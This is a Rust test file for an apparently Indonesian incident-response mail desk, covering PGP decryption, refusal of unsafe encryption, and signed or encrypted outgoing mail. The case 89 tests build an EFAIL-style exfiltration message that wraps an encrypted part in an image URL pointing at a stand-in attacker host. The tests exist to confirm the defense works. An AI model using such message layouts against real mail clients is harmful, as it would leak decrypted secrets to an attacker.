//! Cases 89 and 90: what comes encrypted is opened as a whole or stays as it came; and what leaves is
//! encrypted to whoever has a key.

use std::path::Path;

use siaga::cli::explain::{self, Looking};
use siaga::cli::keys::{self, Keys};
use siaga::domain::evidence::TrustRules;
use siaga::domain::outgoing::SendOutcome;
use siaga::domain::stage::{Disposition, Status};
use tempfile::TempDir;

use crate::office::{arrives, delivered, desk_with, pass, report};
use crate::signed_mail::{DESK, give_key, pin, ring};
use crate::support::gnupg::Gnupg;
use crate::support::letters::Letter;
use crate::support::reported::{ANI, BUDI, DEDI, KABID, status};
use crate::support::sealed::{encrypted, encrypted_part, signed, taken_apart};
use crate::support::smime::Certificate;
use crate::support::world::{Received, World};

/// Words that must be nowhere if they were not to be opened.
const SECRET: &str = "kata-sandi-panel-rahasia";

/// A desk with its key, and where that lies.
fn desk(gpg: &Gnupg) -> (World, TempDir) {
    let mut folder = None;
    let world = desk_with(|config| folder = Some(give_key(config, gpg)));
    (world, folder.expect("its folder"))
}

fn letter() -> Letter {
    Letter::from("Budi Warga <budi@warga.example>")
        .subject("...")
        .text(&format!("Halaman https://dinkes.ciamiskab.go.id/ bocor: {SECRET}"))
        .file("bukti.log", "text/plain", b"GET /panel HTTP/1.1\n")
}

fn comes(world: &mut World, raw: &[u8]) {
    world.deliver_raw(delivered(raw, Some(&pass("warga.example"))));
    world.take_in();
}

fn told(world: &World) -> String {
    world.latest(ANI, "Baru").words()
}

/// Whether some file below a folder holds these octets.
fn holds(folder: &Path, needle: &[u8]) -> bool {
    std::fs::read_dir(folder).expect("a folder").any(|entry| {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            return holds(&path, needle);
        }
        let bytes = std::fs::read(&path).expect("a file");
        bytes.windows(needle.len()).any(|window| window == needle)
    })
}

#[test]
fn an_encrypted_report_is_opened_and_the_team_told_how_it_came() {
    let gpg = ring(&[DESK, BUDI]);
    let (mut world, _folder) = desk(&gpg);
    world.reconfigure(|config| pin(config, &gpg, BUDI));
    let raw = letter().raw();
    let with_subject = |content: &[u8]| [b"Subject: Celah pada panel\r\n", content].concat();
    let raw = encrypted(&raw, |content| gpg.encrypt(DESK, Some(BUDI), &with_subject(content)));
    comes(&mut world, &raw);
    let told = told(&world);
    assert!(
        told.contains("diterima terenkripsi (PGP), dibuka dengan kunci PGP tim; subjek di dalamnya: Celah pada panel"),
        "{told}"
    );
    assert!(told.contains("sah, dengan kunci PGP yang terdaftar untuk pengirim"), "{told}");
    assert!(told.contains(SECRET) && told.contains("bukti.log") && told.contains("Dinas Kesehatan"), "{told}");
    // Kept as raw is what came; the file inside is evidence.
    assert!(!holds(&world.folder().join("raw"), SECRET.as_bytes()));
    assert!(holds(&world.folder().join("evidence"), b"GET /panel HTTP/1.1"));
    // The acknowledgement repeats nothing of it, though the sender's domain vouches for him.
    let answer = world.mailbox_of(BUDI).pop().expect("acknowledged");
    assert!(!answer.text.contains("panel") && !answer.subject.contains("panel"), "{}", answer.text);
    assert!(!answer.text.contains("bukti.log"), "{}", answer.text);
}

#[test]
fn a_text_that_is_one_armoured_block_is_opened_and_so_is_a_signature_inside() {
    let gpg = ring(&[DESK, BUDI]);
    let (mut world, _folder) = desk(&gpg);
    let block = String::from_utf8(gpg.encrypt(DESK, None, SECRET.as_bytes())).expect("armour");
    comes(&mut world, &Letter::from(BUDI).text(&block).raw());
    assert!(told(&world).contains(SECRET), "{}", told(&world));
    let layered = signed(&letter().id("lapis@warga.example").raw(), |content| gpg.sign(BUDI, content));
    comes(&mut world, &encrypted(&layered, |content| gpg.encrypt(DESK, None, content)));
    let told = told(&world);
    assert!(told.contains("dibuka dengan kunci PGP tim") && told.contains("kunci pengirim tidak terdaftar"), "{told}");
}

#[test]
fn case_89_an_encrypted_part_between_others_stays_closed_and_nothing_is_joined() {
    let gpg = ring(&[DESK]);
    let (mut world, _folder) = desk(&gpg);
    let stolen =
        encrypted_part(&gpg.encrypt(DESK, None, format!("Content-Type: text/plain\r\n\r\n{SECRET}").as_bytes()));
    let (outer, _) = taken_apart(&letter().raw());
    let html = |text: &str| format!("--efail\r\nContent-Type: text/html\r\n\r\n{text}\r\n");
    let raw = format!(
        "{outer}Content-Type: multipart/mixed; boundary=efail\r\n\r\n{}--efail\r\n{}\r\n{}--efail--\r\n",
        html("<img src=\"https://penyerang.example/"),
        String::from_utf8(stolen.clone()).expect("text"),
        html("\">"),
    );
    comes(&mut world, raw.as_bytes());
    let said = told(&world);
    assert!(said.contains("TIDAK DIBUKA (PGP): hanya sebagian surel yang terenkripsi"), "{said}");
    assert!(world.sent().iter().all(|mail| !mail.text.contains(SECRET)));
    assert!(!holds(world.folder(), SECRET.as_bytes()));
    // A block of armour with other words around it is a part too.
    let block = String::from_utf8(gpg.encrypt(DESK, None, SECRET.as_bytes())).expect("armour");
    comes(&mut world, &Letter::from(BUDI).text(&format!("Lihat ini:\n\n{block}")).raw());
    assert!(!holds(world.folder(), SECRET.as_bytes()));
}

#[test]
fn case_89_html_inside_an_encrypted_report_becomes_text_like_any_other() {
    let gpg = ring(&[DESK]);
    let (mut world, _folder) = desk(&gpg);
    let page = format!(
        "Content-Type: text/html\r\n\r\n<p>{SECRET}<img src=\"https://penyerang.example/x\"></p><script>a()</script>"
    );
    let raw = encrypted(&letter().raw(), |_| gpg.encrypt(DESK, None, page.as_bytes()));
    comes(&mut world, &raw);
    let notice = world.latest(ANI, "Baru");
    assert!(
        notice.text.contains(SECRET) && !notice.text.contains("<img") && !notice.text.contains("a()"),
        "{}",
        notice.text
    );
    assert!(!String::from_utf8_lossy(&notice.mail.bytes).contains("penyerang.example/x\""));
}

#[test]
fn case_90_what_is_unprotected_damaged_or_for_another_key_stays_closed_and_the_team_knows_why() {
    let gpg = ring(&[DESK, BUDI]);
    let (mut world, _folder) = desk(&gpg);
    let plain = format!("Content-Type: text/plain\r\n\r\n{}", format!("{SECRET} ").repeat(200));
    let bare = gpg.encrypt_with(&["--rfc2440", "--cipher-algo", "3DES"], DESK, None, plain.as_bytes());
    let whole = String::from_utf8(gpg.encrypt(DESK, None, plain.as_bytes())).expect("armour");
    let lines: Vec<&str> = whole.lines().collect();
    let middle = lines.len() / 2;
    let mut damaged = lines.clone();
    damaged.swap(middle, middle + 1);
    let damaged = damaged.join("\n").into_bytes();
    let foreign = gpg.encrypt(BUDI, None, plain.as_bytes());
    let cases = [
        (bare, "enkripsinya tanpa perlindungan keutuhan"),
        (damaged, "rusak atau berubah di perjalanan"),
        (foreign, "dienkripsi untuk kunci lain"),
    ];
    for (number, (armoured, why)) in cases.into_iter().enumerate() {
        let raw = encrypted(&letter().id(&format!("{number}@warga.example")).raw(), |_| armoured);
        comes(&mut world, &raw);
        let told = told(&world);
        assert!(told.contains("TIDAK DIBUKA (PGP)") && told.contains(why), "{why}: {told}");
        assert!(holds(&world.folder().join("raw"), &raw[raw.len() - 200..]), "kept as it came");
    }
    assert_eq!(world.tickets().len(), 3);
    assert!(!holds(world.folder(), SECRET.as_bytes()));
}

#[test]
fn without_a_key_nothing_is_opened_and_smime_never() {
    let gpg = ring(&[DESK]);
    let mut world = desk_with(|_| {});
    let raw = letter().raw();
    comes(&mut world, &encrypted(&raw, |content| gpg.encrypt(DESK, None, content)));
    assert!(told(&world).contains("sistem belum mempunyai kunci PGP"), "{}", told(&world));
    let certificate = Certificate::of(DESK, "30");
    comes(&mut world, &certificate.encrypted(&letter().id("smime@warga.example").raw()));
    assert!(
        told(&world).contains("TIDAK DIBUKA (S/MIME): S/MIME terenkripsi tidak dibuka oleh sistem ini"),
        "{}",
        told(&world)
    );
}

/// A desk that signs, with an analyst who gets his mail encrypted.
fn desk_that_protects(gpg: &Gnupg) -> (World, TempDir) {
    let (mut world, folder) = desk(gpg);
    world.reconfigure(|config| {
        config.settings.pgp.sign = true;
        pin(config, gpg, ANI);
        config.people.pinned.iter_mut().for_each(|keys| keys.encrypts = true);
    });
    (world, folder)
}

#[test]
fn what_leaves_is_signed_and_encrypted_to_whoever_has_a_key() {
    let mut gpg = ring(&[DESK, ANI]);
    gpg.at("20261124T000000");
    let (mut world, _folder) = desk_that_protects(&gpg);
    report(&mut world);
    let notice = world.mailbox_of(ANI).pop().expect("told");
    let bytes = String::from_utf8(notice.mail.bytes.clone()).expect("ASCII");
    assert!(bytes.contains("multipart/encrypted") && bytes.contains("Subject: [CIAMIS-2026-0001] ..."), "{bytes}");
    let armoured = &bytes[bytes.find("-----BEGIN PGP MESSAGE").expect("a message")..];
    let opened = gpg.decrypt(armoured.as_bytes());
    assert!(opened.good && opened.said.contains("Good signature"), "{}", opened.said);
    assert!(String::from_utf8_lossy(&opened.out).contains("Tiket CIAMIS-2026-0001 menunggu verifikasi"));
    // A reporter's acknowledgement is signed and stays readable.
    let answer = world.mailbox_of(BUDI).pop().expect("acknowledged");
    assert!(String::from_utf8_lossy(&answer.mail.bytes).contains("multipart/signed"));
    assert!(answer.words().contains("CIAMIS-2026-0001"), "{}", answer.text);
    // He answers the encrypted mail as any other.
    let order = Letter::from(ANI).subject(&format!("Re: {}", notice.subject)).answers(&notice.message_id).text("#spam");
    arrives(&mut world, &order, Some(&pass("csirt.example")));
    assert_eq!(status(&world), Status::Closed(Disposition::Spam));
}

#[test]
fn a_retry_encrypts_anew_under_the_same_message_id() {
    let gpg = ring(&[DESK, ANI]);
    let (mut world, _folder) = desk_that_protects(&gpg);
    let refused = SendOutcome::Transient { reply: "450 later".to_owned() };
    world.provider.borrow_mut().answers.extend(vec![refused; 20]);
    report(&mut world);
    assert!(world.sent().is_empty(), "everything was put off");
    world.provider.borrow_mut().answers.clear();
    world.minutes(5);
    let rows: Vec<_> = world.outbox().into_iter().filter(|row| row.attempts == 2).collect();
    assert!(rows.iter().any(|row| row.recipient == ANI), "{rows:#?}");
    for row in rows {
        let sent: Vec<_> = world.sent().into_iter().filter(|mail| mail.message_id == row.message_id).collect();
        let [sent] = sent.as_slice() else { panic!("{} times {}", sent.len(), row.message_id) };
        let bytes = String::from_utf8_lossy(&sent.mail.bytes).into_owned();
        assert!(bytes.contains(&format!("Message-ID: <{}>", row.message_id)), "{bytes}");
        assert_eq!(bytes.contains("multipart/encrypted"), row.recipient == ANI);
    }
}

#[test]
fn mail_to_a_key_that_has_run_out_waits_and_the_team_is_told() {
    let mut gpg = Gnupg::new();
    gpg.key(DESK, "never");
    gpg.key(ANI, "20261110T000000");
    gpg.at("20261105T000000");
    let (mut world, _folder) = desk_that_protects(&gpg);
    report(&mut world);
    world.send();
    assert!(
        world.mailbox_of(ANI).iter().all(|mail| mail.subject.contains("kunci PGP")),
        "nothing goes in clear but that his key has run out"
    );
    let rows = world.outbox().into_iter();
    let waiting = rows.filter(|row| row.recipient == ANI && row.notice != "desk_alert").collect::<Vec<_>>();
    assert!(!waiting.is_empty());
    assert!(
        waiting.iter().all(|row| row.sent_at.is_none() && row.reply.contains("OpenPGP key pinned")),
        "{waiting:#?}"
    );
    let dedi = world.latest(crate::support::reported::DEDI, "Surel tertahan").words();
    assert!(dedi.contains("Surel kepada ani[@]csirt[.]example tertahan"), "{dedi}");
}

/// Every key of the team has run out: what tells of it was sealed with the same keys, and waited too.
#[test]
fn nobody_was_told_that_every_key_of_the_team_had_run_out() {
    let team = [ANI, DEDI, KABID];
    let mut old = Gnupg::new();
    old.key(DESK, "never");
    team.iter().for_each(|person| old.key(person, "20261110T000000"));
    old.at("20261105T000000");
    let renewed = ring(&team);
    let (mut world, _folder) = desk(&old);
    let encrypts = |world: &mut World, gpg: &Gnupg| {
        world.reconfigure(|config| {
            config.settings.pgp.sign = true;
            team.iter().for_each(|person| pin(config, gpg, person));
            config.people.pinned.iter_mut().for_each(|keys| keys.encrypts = true);
        });
    };
    encrypts(&mut world, &old);
    report(&mut world);
    world.send();
    let now = world.now();
    assert!(keys::faults(world.config(), now).iter().any(|fault| fault.contains("no analyst gets any mail")));
    assert!(keys::warnings(world.config(), now).iter().any(|said| said.contains(KABID) && said.contains("waits")));
    for person in [ANI, DEDI] {
        let got = world.mailbox_of(person);
        assert!(!got.is_empty(), "{person} was told nothing");
        for mail in got {
            let bytes = String::from_utf8_lossy(&mail.mail.bytes).into_owned();
            assert!(mail.subject.contains("kunci PGP"), "{}", mail.subject);
            for secret in ["CIAMIS-2026", "dinkes", "warga", "judi", "csirt+"] {
                assert!(!bytes.contains(secret), "{secret}: {bytes}");
            }
        }
    }
    // Four days on, longer than any mail is tried, they still wait, and no attempt of theirs is spent.
    world.until("2026-11-27 09:00");
    let kept = |world: &World, waits: bool| {
        let rows = world.outbox().into_iter().filter(move |row| row.waits_for_key == waits && row.sent_at.is_none());
        rows.filter(|row| team.contains(&row.recipient.as_str())).collect::<Vec<_>>()
    };
    let waiting = kept(&world, true);
    assert!(waiting.iter().any(|row| row.notice == "ticket_opened" && row.recipient == ANI), "{waiting:#?}");
    assert!(waiting.iter().any(|row| row.recipient == KABID), "his reminder waits as well");
    assert!(waiting.iter().all(|row| row.attempts == 0), "{waiting:#?}");
    assert!(kept(&world, false).is_empty(), "none is given up");
    let of_kabid = |mail: &Received| mail.words().contains("Surel kepada kabid[@]csirt[.]example tertahan");
    let alerts = world.mailbox_of(ANI).iter().filter(|mail| of_kabid(mail)).count();
    assert!((1..=5).contains(&alerts), "once a day, and not {alerts} times");
    // The keys are renewed: everything leaves, encrypted.
    encrypts(&mut world, &renewed);
    let before = world.sent().len();
    world.minutes(16);
    assert!(kept(&world, true).is_empty());
    let sent = world.sent();
    let leaves = |row: &siaga::store::outbox::Entry| {
        sent[before..].iter().filter(|mail| mail.message_id == row.message_id).count()
    };
    assert!(waiting.iter().all(|row| leaves(row) == 1));
    assert!(
        sent[before..]
            .iter()
            .filter(|mail| team.contains(&mail.to.as_str()))
            .all(|mail| { String::from_utf8_lossy(&mail.mail.bytes).contains("multipart/encrypted") })
    );
}

#[test]
fn what_cannot_be_signed_goes_unsigned_and_the_team_is_told() {
    let mut gpg = Gnupg::new();
    gpg.key(DESK, "20261110T000000");
    gpg.at("20261105T000000");
    let (mut world, _folder) = desk(&gpg);
    world.reconfigure(|config| config.settings.pgp.sign = true);
    report(&mut world);
    world.send();
    let notice = world.latest(ANI, "Baru");
    assert!(!String::from_utf8_lossy(&notice.mail.bytes).contains("multipart/signed"));
    assert!(world.latest(ANI, "tanpa tanda tangan").words().contains("TANPA tanda tangan PGP"));
}

#[test]
fn explain_says_in_one_line_how_a_mail_was_protected() {
    let gpg = ring(&[DESK, BUDI]);
    let (mut world, _folder) = desk(&gpg);
    let raw = encrypted(&letter().raw(), |content| gpg.encrypt(DESK, Some(BUDI), content));
    let file = world.folder().join("surat.eml");
    std::fs::write(&file, raw).expect("write");
    let said = |world: &mut World| {
        let opener = Keys::read(world.config()).expect("the keys").split().0;
        let looking = Looking { parse_max: 1 << 20, trust: TrustRules::default(), dns: None, opener };
        let (mut out, now) = (Vec::new(), world.now());
        let mut engine = world.shared.engine.borrow_mut();
        explain::run(&mut engine, std::slice::from_ref(&file), true, &looking, now, &mut out).expect("explained");
        let told: serde_json::Value = serde_json::from_slice(&out).expect("JSON");
        told["trust"]["protection"].as_str().expect("a line").to_owned()
    };
    let unpinned =
        "encrypted (PGP), opened with the desk's key; signed (PGP), unchecked: no key is pinned for the sender";
    assert_eq!(said(&mut world), unpinned);
    world.reconfigure(|config| pin(config, &gpg, BUDI));
    let line = said(&mut world);
    assert!(line.contains("signed (PGP) at 2026-11-23 00:30:00 UTC by the sender's pinned key"), "{line}");
    world.reconfigure(|config| config.settings.pgp.key = None);
    assert_eq!(said(&mut world), "encrypted (PGP), not opened: the desk has no key");
}
